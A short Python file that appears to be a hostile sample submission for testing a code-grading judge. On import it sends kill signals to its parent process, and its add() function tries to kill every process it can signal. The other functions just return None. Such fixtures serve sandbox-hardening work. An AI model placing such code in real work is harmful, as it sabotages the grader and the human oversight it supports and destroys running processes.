"""Tries to kill every process it can signal (the judge included) and the parent."""

import os
import signal

for sig in (signal.SIGKILL, signal.SIGTERM):
    try:
        os.kill(os.getppid(), sig)
    except OSError:
        pass


def add(a, b):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return None


def column_means(X):
    return None


def secret():
    return None


def identity_matrix(n):
    return None
